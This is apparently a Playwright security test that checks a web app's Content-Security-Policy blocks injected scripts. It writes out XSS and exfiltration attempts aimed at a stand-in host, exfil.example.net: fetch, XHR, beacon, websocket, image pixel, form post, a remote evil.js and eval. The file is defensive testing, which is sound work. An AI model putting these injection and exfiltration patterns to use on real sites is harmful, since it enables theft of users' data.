/**
 * The second line of defence (issue 22): should a script ever get into the built app (an XSS,
 * a poisoned dependency), the Content-Security-Policy keeps it from running inline and from
 * sending anything to an outside address. Needs the production build: the policy is the
 * prerendered pages' <meta> tag.
 */
import { expect, test, type Page } from '@playwright/test';
import { appStarted } from './helpers';

const OUTSIDE = 'https://exfil.example.net';

interface Violation {
	directive: string;
	blocked: string;
}

/** Records the page's CSP violations from its first script on. */
async function watchViolations(page: Page): Promise<void> {
	await page.addInitScript(() => {
		const seen: { directive: string; blocked: string }[] = [];
		(window as unknown as { __violations: typeof seen }).__violations = seen;
		document.addEventListener('securitypolicyviolation', (event) => {
			seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
		});
	});
}

function violations(page: Page): Promise<Violation[]> {
	return page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

/**
 * Stands in for the attacker's server (this machine has no network): every request that gets
 * past the browser's policy to the network arrives here, and is answered as a real server would.
 */
async function outsideServer(page: Page): Promise<string[]> {
	const reached: string[] = [];
	await page.route(
		(url) => url.hostname !== 'localhost',
		(route) => {
			reached.push(route.request().url());
			return route.fulfill({ status: 200, body: 'ok' });
		}
	);
	return reached;
}

test('every page starts under its own policy, with no violation', async ({ page }) => {
	await watchViolations(page);
	for (const path of [
		'/',
		'/werkvormen',
		'/groepen',
		'/overzicht',
		'/instellingen',
		'/zorg',
		'/print'
	]) {
		await page.goto(path);
		await appStarted(page);
		const policy = await page
			.locator('meta[http-equiv="content-security-policy"]')
			.getAttribute('content');
		expect(policy).toContain("script-src 'self' 'sha256-");
		expect(policy).toContain("connect-src 'self'");
		expect(policy).toContain("object-src 'none'");
		expect(policy).toContain("base-uri 'self'");
		expect(policy).not.toContain('unsafe-eval');
		expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
		// The rewritten boot script (hooks.server.ts) ran: the app started and links the pages.
		await expect(page.getByRole('navigation').first()).toBeVisible();
		expect(await violations(page)).toEqual([]);
	}
});

test('a script injected into the page neither runs inline nor reaches an outside address', async ({
	page
}) => {
	const outside = await outsideServer(page);
	const failed: string[] = [];
	page.on('requestfailed', (request) => failed.push(request.failure()?.errorText ?? ''));
	await watchViolations(page);
	// The injection: the served page itself carries an attacker's inline script and handler.
	await page.route('**/groepen', async (route) => {
		const response = await route.fetch();
		const html = (await response.text()).replace(
			'<body',
			`<img src="x" onerror="window.__ranHandler = true"><script>window.__ranInline = true; fetch('${OUTSIDE}/inline')</script><body`
		);
		await route.fulfill({ response, body: html });
	});
	await page.goto('/groepen');
	await appStarted(page);
	expect(await page.evaluate(() => 'ranInline' in window || '__ranInline' in window)).toBe(false);
	expect(await page.evaluate(() => '__ranHandler' in window)).toBe(false);

	// A script that is already running (as a poisoned dependency would be) tries every way out.
	const attempts = await page.evaluate(async (outsideUrl) => {
		const results: Record<string, string> = {};
		const tryIt = async (name: string, run: () => Promise<unknown> | unknown) => {
			try {
				await run();
				results[name] = 'ran';
			} catch (error) {
				results[name] = `blocked: ${(error as Error).name}`;
			}
		};
		await tryIt('fetch', () => fetch(`${outsideUrl}/fetch?names=Ayla`));
		await tryIt('xhr', () => {
			const xhr = new XMLHttpRequest();
			xhr.open('POST', `${outsideUrl}/xhr`);
			xhr.send('Ayla');
		});
		await tryIt('beacon', () => {
			if (!navigator.sendBeacon(`${outsideUrl}/beacon`, 'Ayla')) throw new Error('refused');
		});
		await tryIt(
			'websocket',
			() =>
				new Promise((resolve, reject) => {
					const socket = new WebSocket('wss://exfil.example.net/ws');
					socket.onopen = resolve;
					socket.onerror = () => reject(new Error('refused'));
				})
		);
		await tryIt('eval', () => eval('1 + 1'));
		await tryIt('function', () => new Function('return 1')());
		const script = document.createElement('script');
		script.textContent = 'window.__ranAppended = true';
		document.body.append(script);
		const remote = document.createElement('script');
		remote.src = `${outsideUrl}/evil.js`;
		document.body.append(remote);
		const image = new Image();
		image.src = `${outsideUrl}/pixel.gif?names=Ayla`;
		document.body.append(image);
		const frame = document.createElement('iframe');
		frame.src = `${outsideUrl}/frame`;
		document.body.append(frame);
		const style = document.createElement('style');
		style.textContent = `body { background: url(${outsideUrl}/css.png) }`;
		document.head.append(style);
		const form = document.createElement('form');
		form.action = `${outsideUrl}/form`;
		form.method = 'post';
		form.innerHTML = '<input name="names" value="Ayla">';
		document.body.append(form);
		HTMLFormElement.prototype.submit.call(form);
		await new Promise((resolve) => setTimeout(resolve, 1500));
		results.appended = '__ranAppended' in window ? 'ran' : 'not run';
		return results;
	}, OUTSIDE);

	expect(attempts.fetch).toMatch(/^blocked/);
	expect(attempts.websocket).toMatch(/^blocked/);
	expect(attempts.eval).toMatch(/^blocked: EvalError/);
	expect(attempts.function).toMatch(/^blocked: EvalError/);
	expect(attempts.appended).toBe('not run');

	const blocked = await violations(page);
	const directives = new Set(blocked.map((v) => v.directive));
	for (const directive of [
		'script-src-elem',
		'script-src-attr',
		'connect-src',
		'img-src',
		'frame-src',
		'form-action'
	]) {
		expect(directives, `no ${directive} violation in ${JSON.stringify(blocked)}`).toContain(
			directive
		);
	}
	expect(blocked.some((v) => v.blocked.startsWith('wss://exfil.example.net'))).toBe(true);
	// Inline code was refused as inline, outside addresses by their origin.
	expect(blocked.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline')).toBe(
		true
	);
	for (const v of blocked.filter(
		(v) => v.blocked.startsWith('http') || v.blocked.startsWith('ws')
	)) {
		expect(v.blocked).toMatch(/exfil\.example\.net/);
	}
	// And nothing reached the outside server: the browser stopped every request itself.
	expect(outside).toEqual([]);
	expect(failed.length).toBeGreaterThan(0);
	for (const reason of failed) expect(reason).toMatch(/^csp$|BLOCKED_BY_CSP/);
});
